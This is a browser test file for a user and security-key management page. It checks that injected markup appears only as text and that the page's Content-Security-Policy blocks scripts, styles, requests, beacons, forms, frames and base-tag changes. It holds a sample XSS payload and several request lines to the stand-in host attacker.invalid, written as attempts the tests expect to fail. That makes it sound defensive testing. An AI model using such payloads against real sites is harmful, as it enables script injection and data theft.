import { contentSecurityPolicy } from "../../src/contract/content-security-policy.ts";
import { pageUrl } from "../fakes/served-page.ts";
import { adasKey, failed, findingUser, hostileUser, paired, rightToLeftUser, userOpen } from "../fakes/snapshots.ts";
import { button, collectViolations, expect, heading, test, text } from "./page-under-test.ts";

/** Words from outside, and what the page could do if somebody got into it. */

const markup = '<img src="https://attacker.invalid/x.png" onerror="window.hit=1"><script>window.hit=1</script>';

test("markup in names, nicknames, policies and error texts is text", async ({ open, page }) => {
  const user = { ...hostileUser, name: markup };
  const device = { ...adasKey, nickname: markup };
  const { push } = await open(userOpen({ user, devices: [device] }));
  await expect(heading(page, markup)).toBeVisible();
  await expect(page.getByRole("main").getByText(markup, { exact: true }).first()).toBeVisible();
  await push(paired({ user, device: { ...device, application: markup, relyingPartyId: markup } }));
  await expect(page.getByRole("main").getByText(markup, { exact: true }).first()).toBeVisible();
  await push(failed({ code: "activation-refused", serverMessage: markup, correlationId: markup }, { user }));
  await expect(page.getByRole("main").getByText(markup, { exact: true }).first()).toBeVisible();
  await push(findingUser({ query: markup, matches: [user, { ...user, id: "2" }] }));
  await expect(page.getByText(markup, { exact: true }).first()).toBeVisible();
  expect(await page.evaluate(() => "hit" in window)).toBe(false);
  await expect(page.locator("img, script:not([src])")).toHaveCount(0);
});

test("a name written from right to left does not turn what stands beside it", async ({ open }) => {
  const { page } = await open(userOpen({ user: rightToLeftUser }));
  const name = page.getByRole("heading", { level: 1 }).locator("bdi");
  await expect(name).toHaveText(rightToLeftUser.name ?? "");
  const badge = await page.getByText(text.user.enabled, { exact: true }).boundingBox();
  const title = await name.boundingBox();
  expect(badge?.x ?? 0).toBeGreaterThan(title?.x ?? Number.POSITIVE_INFINITY);
});

test("a very long name takes no more than its place", async ({ open }) => {
  const { page } = await open(userOpen({ user: hostileUser }));
  const title = page.getByRole("heading", { level: 1 });
  expect((await title.boundingBox())?.height ?? 0).toBeLessThanOrEqual(3 * 28);
  await expect(title.locator("bdi")).toHaveAttribute("title", hostileUser.name ?? "");
  await expect(button(page, text.user.pairDesktop)).toBeInViewport();
});

test("nothing is kept in the browser", async ({ open }) => {
  const { page } = await open(userOpen());
  const kept = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
  }));
  expect(kept).toEqual({ local: 0, session: 0, cookies: "", databases: 0 });
});

/** SECURITY: checklist 5. The policy is tried, not read. Each attempt is one that a script in the page would make. */
test.describe("the Content-Security-Policy", () => {
  type Attempt = { readonly directive: string; readonly html?: string; readonly act?: () => unknown };
  const attempts: Readonly<Record<string, Attempt>> = {
    "a script that came with the page": { directive: "script-src-elem", html: "<script>window.hit = 1</script>" },
    "a handler that came with the page": { directive: "script-src-attr", html: '<p onclick="window.hit = 1">A</p>' },
    "a style that came with the page": { directive: "style-src-elem", html: "<style>p { display: none }</style>" },
    "a style on an element": { directive: "style-src-attr", html: '<p style="display: none">A</p>' },
    "a script that is put into the page": {
      directive: "require-trusted-types-for",
      act: () => {
        const script = document.createElement("script");
        script.textContent = "window.hit = 1";
        document.body.append(script);
      },
    },
    "markup made of text": {
      directive: "require-trusted-types-for",
      act: () => {
        document.body.insertAdjacentHTML("beforeend", "<p>made of text</p>");
      },
    },
    "code made of text": {
      directive: "require-trusted-types-for",
      act: () => Reflect.apply(setTimeout, window, ["window.hit = 1", 0]),
    },
    "a style in the page": {
      directive: "style-src-elem",
      act: () => {
        const style = document.createElement("style");
        style.textContent = "body { display: none }";
        document.head.append(style);
      },
    },
    "an image from elsewhere": {
      directive: "img-src",
      act: () => {
        new Image().src = "https://attacker.invalid/x.png";
      },
    },
    "a request": { directive: "connect-src", act: () => fetch("https://attacker.invalid/").catch(() => undefined) },
    "a request to this computer": {
      directive: "connect-src",
      act: () => fetch("http://127.0.0.1:9410/").catch(() => undefined),
    },
    "a beacon": { directive: "connect-src", act: () => navigator.sendBeacon("https://attacker.invalid/", "x") },
    "a form that leaves": {
      directive: "form-action",
      act: () => {
        const form = document.createElement("form");
        form.action = "https://attacker.invalid/";
        form.method = "post";
        document.body.append(form);
        form.submit();
      },
    },
    "a frame": {
      directive: "frame-src",
      act: () => {
        const frame = document.createElement("iframe");
        frame.src = "https://attacker.invalid/";
        document.body.append(frame);
      },
    },
    "another base address": {
      directive: "base-uri",
      act: () => {
        const base = document.createElement("base");
        base.href = "https://attacker.invalid/";
        document.head.append(base);
      },
    },
  };

  for (const [name, { directive, html, act }] of Object.entries(attempts)) {
    test(`stops ${name}`, async ({ page }) => {
      const left: string[] = [];
      // A page of its own with the same policy: the attempt must not be mixed up with what our page does.
      await page.route("**/*", async (route) => {
        if (route.request().url() !== pageUrl) {
          left.push(route.request().url());
          return route.abort();
        }
        return route.fulfill({
          body: `<!doctype html><title>Attempt</title><body>${html ?? ""}</body>`,
          headers: { "content-type": "text/html", "content-security-policy": contentSecurityPolicy },
        });
      });
      await page.addInitScript(collectViolations);
      await page.goto(pageUrl);
      // What is refused at once throws; what is refused later does not. Both are reported.
      if (act !== undefined) await page.evaluate(act).catch(() => undefined);
      await expect.poll(() => page.evaluate(() => window.violations)).toContain(directive);
      expect(await page.evaluate(() => "hit" in window)).toBe(false);
      expect(left).toEqual([]);
    });
  }
});
